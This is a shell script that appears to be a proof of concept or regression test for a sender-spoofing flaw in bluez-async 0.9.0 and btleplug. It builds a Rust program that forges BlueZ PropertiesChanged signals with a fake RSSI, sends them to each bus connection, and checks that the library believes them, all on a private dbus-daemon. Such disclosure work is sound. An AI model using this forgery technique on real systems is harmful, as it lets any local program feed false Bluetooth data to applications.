#!/bin/sh
# btleplug 0.13.5 (Linux): a signal in BlueZ's words is believed whoever sends it.
#
# bluez-async 0.9.0, on which it stands, subscribes to signals of the sender org.bluez. The bus hands on by that rule what is sent to
# everybody; but a signal may be sent to one connection alone, and that is handed on whatever its rules say. Then the library itself
# compares, and the dbus crate compares a well-known name with a connection's number by not comparing at all (MatchRule's
# strict_sender is false unless set). So any program that may speak on the bus can say that a phone is near, or what it sends. What
# saves most of it is that btleplug asks BlueZ for the entry before it tells: of a phone that BlueZ does not know nothing is told.
# Here nobody owns the name org.bluez, and the level is told all the same. Fails as soon as the library compares, or the words differ.
# Wants dbus-daemon and the development files of libdbus.
set -eu
folder=$(mktemp -d)
trap 'kill "$bus" 2>/dev/null || true; rm -rf "$folder"' EXIT
mkdir "$folder/src"
cat > "$folder/Cargo.toml" <<'TOML'
[package]
name = "finding"
version = "0.0.0"
edition = "2024"
[dependencies]
bluez-async = "=0.9.0"
dbus = "=0.9.12"
futures = "0.3"
tokio = { version = "=1.54.1", features = ["rt-multi-thread", "time"] }
[workspace]
TOML
cat > "$folder/src/main.rs" <<'RUST'
use std::collections::HashMap;
use std::time::Duration;

use bluez_async::BluetoothSession;
use dbus::Message;
use dbus::arg::Variant;
use dbus::blocking::Connection;
use dbus::channel::Sender;
use futures::StreamExt;
use tokio::runtime::Runtime;

/// To each connection alone.
fn forge() {
    let bus = Connection::new_system().unwrap();
    let proxy = bus.with_proxy("org.freedesktop.DBus", "/", Duration::from_secs(5));
    let (names,): (Vec<String>,) = proxy.method_call("org.freedesktop.DBus", "ListNames", ()).unwrap();
    println!("org.bluez is there: {}", names.iter().any(|name| name == "org.bluez"));
    for name in names.into_iter().filter(|name| name.starts_with(':')) {
        let path = "/org/bluez/hci0/dev_4A_00_00_00_00_01";
        let mut signal = Message::new_signal(path, "org.freedesktop.DBus.Properties", "PropertiesChanged").unwrap();
        signal.set_destination(Some(name.into()));
        let changed = HashMap::from([("RSSI", Variant(-20_i16))]);
        bus.send(signal.append3("org.bluez.Device1", changed, Vec::<String>::new())).unwrap();
    }
    bus.channel().flush();
}

fn main() {
    Runtime::new().unwrap().block_on(async {
        let (_, session) = BluetoothSession::new().await.unwrap();
        let mut events = session.event_stream().await.unwrap();
        tokio::task::spawn_blocking(forge).await.unwrap();
        let told = tokio::time::timeout(Duration::from_secs(5), events.next()).await;
        println!("told: {}", format!("{told:?}").contains("Rssi { rssi: -20 }"));
    });
}
RUST
cat > "$folder/bus.conf" <<XML
<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>system</type>
  <listen>unix:path=$folder/socket</listen>
  <policy context="default"><allow send_destination="*"/><allow receive_sender="*"/><allow own="*"/></policy>
</busconfig>
XML
dbus-daemon --config-file="$folder/bus.conf" --nofork --nopidfile --print-address=1 > "$folder/address" &
bus=$!
while [ ! -S "$folder/socket" ]; do sleep 0.1; done
said=$(DBUS_SYSTEM_BUS_ADDRESS="unix:path=$folder/socket" cargo run --quiet --manifest-path "$folder/Cargo.toml")
echo "$said"
[ "$said" = "org.bluez is there: false
told: true" ]
